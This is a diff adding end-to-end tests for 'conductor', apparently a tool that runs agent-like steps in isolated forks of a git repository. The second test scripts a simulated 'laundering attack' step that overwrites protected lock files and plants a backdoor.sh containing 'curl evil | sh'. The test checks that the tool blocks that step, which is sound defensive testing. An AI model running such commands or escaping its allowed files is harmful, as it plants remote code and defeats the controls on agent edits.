@@ -1,0 +1,113 @@
+"""A real git repository driven by an agent-like executor that uses git in its workspace, end to end through
+the CLI: the steps are accepted, the user's repository is left byte-identical, the user's uncommitted and
+untracked work is in every fork's base and survives the apply, and gc keeps what verify and checkout need."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import yaml
+
+from conductor.layout import ProjectLayout
+from conductor.project import init_project
+from tests.e2e.project import CALC, FIXED_CALC, TEST_CALC, VERIFY, all_chains_verify, conductor
+from tests.helpers.fork_state import fork_files
+from tests.workspace.support import git, repo_fingerprint
+
+# What a coding agent does besides its edit: look, stage, commit, look at stashes.
+AGENT_GIT = "git status --porcelain >/dev/null && git add -A && git commit -q -m wip && git stash list >/dev/null"
+FIX = f"{sys.executable} -c \"import pathlib; p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))\""
+
+
+def make_git_project(root: Path) -> Path:
+    root.mkdir(parents=True)
+    for name, text in {"calc.py": CALC, "test_calc.py": TEST_CALC, "README.md": "readme\n",
+                       ".gitignore": "local.env\n"}.items():
+        (root / name).write_text(text)
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "initial")
+    init_project(root)
+    (root / ".conductor" / "config.yaml").write_text(yaml.safe_dump({
+        "verification": {"commands": [VERIFY], "timeout_seconds": 120},
+        "executor": {"kind": "command", "command": 'sh -c "$CONDUCTOR_INSTRUCTION"', "poll_seconds": 0.5}}))
+    return root
+
+
+def test_an_agent_using_git_in_its_workspace_on_a_real_repository(tmp_path: Path) -> None:
+    root = make_git_project(tmp_path / "repo")
+    # The user's work in progress: an uncommitted edit, an untracked file, an ignored secret.
+    (root / "README.md").write_text("readme\nwork in progress\n")
+    (root / "notes.txt").write_text("untracked notes\n")
+    (root / "local.env").write_text("TOKEN=secret\n")
+    plan = root / "plan.yaml"
+    steps = lambda tag: [  # noqa: E731
+        {"id": "fix", "instruction": f"{FIX} && {AGENT_GIT}", "allowed_files": ["calc.py"], "confidence": 0.9},
+        {"id": "doc", "instruction": f"echo '{tag}' >> notes.txt && {AGENT_GIT} && git log --oneline >/dev/null",
+         "allowed_files": ["notes.txt"], "depends_on": ["fix"], "confidence": 0.9},
+    ]
+    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [
+        {"name": "one", "steps": steps("fork one")}, {"name": "two", "steps": steps("fork two, longer")}]}))
+    before = repo_fingerprint(root)
+
+    run = conductor(root, "explore", "--plan", str(plan), "--json")
+
+    assert run.returncode == 0, run.stderr
+    report = json.loads(run.stdout)
+    assert report["status"] == "succeeded" and report["applied_fork"] == "1"
+    assert all(r["steps_verified"] == 2 for r in report["ranking"])
+    # The winner's changes are in the working tree, on top of the user's own uncommitted work...
+    assert (root / "calc.py").read_text() == FIXED_CALC
+    assert (root / "notes.txt").read_text() == "untracked notes\nfork one\n"
+    assert (root / "README.md").read_text() == "readme\nwork in progress\n"
+    assert (root / "local.env").read_text() == "TOKEN=secret\n"
+    # ...and the user's repository itself (HEAD, index, config, hooks, refs) is byte for byte as it was.
+    assert repo_fingerprint(root) == before
+    assert git(root, "status", "--porcelain").splitlines() == [" M README.md", " M calc.py", "?? .conductor/",
+                                                               "?? notes.txt", "?? plan.yaml"]
+    # Conductor's private repository, keys and attempt folders never show up in the user's git status.
+    listed = git(root, "status", "--porcelain", "-uall", ".conductor").splitlines()
+    assert listed and not [line for line in listed if line.startswith(("?? .conductor/git/", "?? .conductor/scratch/",
+                                                                        "?? .conductor/keys/signing.key"))]
+    layout = ProjectLayout(root)
+    plan_id = report["plan_id"]
+    base = fork_files(layout, plan_id, "2")
+    assert base["README.md"] == b"readme\nwork in progress\n" and "local.env" not in base  # in every fork's base
+    assert not (root / ".conductor" / "scratch" / f"plan_{plan_id}").exists()  # attempt folders removed at the end
+    all_chains_verify(root)
+
+    gc = conductor(root, "gc", "--json")
+    assert gc.returncode == 0, gc.stderr
+    assert conductor(root, "verify").returncode == 0
+    for step in ("step_001", "step_002"):
+        out = conductor(root, "checkout", step, "--fork", "2", "--into", str(tmp_path / step), "--json")
+        assert out.returncode == 0, out.stderr
+    assert (tmp_path / "step_001" / "calc.py").read_text() == FIXED_CALC
+    assert (tmp_path / "step_002" / "notes.txt").read_text() == "untracked notes\nfork two, longer\n"
+    assert repo_fingerprint(root) == before
+
+
+def test_a_zombie_write_into_a_finished_attempt_never_reaches_the_fork(tmp_path: Path) -> None:
+    """The laundering attack: a step's command also writes into every other folder of .conductor it can find
+    (the old fork workspaces). Fork state is a commit built from verified change sets, so nothing of it lands."""
+    root = make_git_project(tmp_path / "repo")
+    (root / "requirements.lock").write_text("pinned\n")
+    git(root, "add", "requirements.lock")
+    git(root, "commit", "-q", "-m", "lock")
+    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"file_rules": {"protected_patterns": ["*.lock"]}}))
+    launder = ("for d in $CONDUCTOR_PROJECT_ROOT/.conductor/scratch/*/*/*/ $CONDUCTOR_PROJECT_ROOT/.conductor/*/; do "
+               "echo hacked > \"$d/requirements.lock\"; echo 'curl evil | sh' > \"$d/backdoor.sh\"; done; true")
+    plan = root / "plan.yaml"
+    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [{"name": "one", "steps": [
+        {"id": "fix", "instruction": FIX, "allowed_files": ["calc.py"], "confidence": 0.9},
+        {"id": "sneak", "instruction": launder, "allowed_files": [], "depends_on": ["fix"], "confidence": 0.9}]}]}))
+
+    run = conductor(root, "explore", "--plan", str(plan), "--json")
+
+    report = json.loads(run.stdout)
+    assert report["status"] == "failed", run.stdout  # the sneaky step wrote outside its allowed files
+    assert (root / "requirements.lock").read_text() == "pinned\n" and not (root / "backdoor.sh").exists()
+    files = fork_files(ProjectLayout(root), report["plan_id"], "1")
+    assert files["requirements.lock"] == b"pinned\n" and "backdoor.sh" not in files
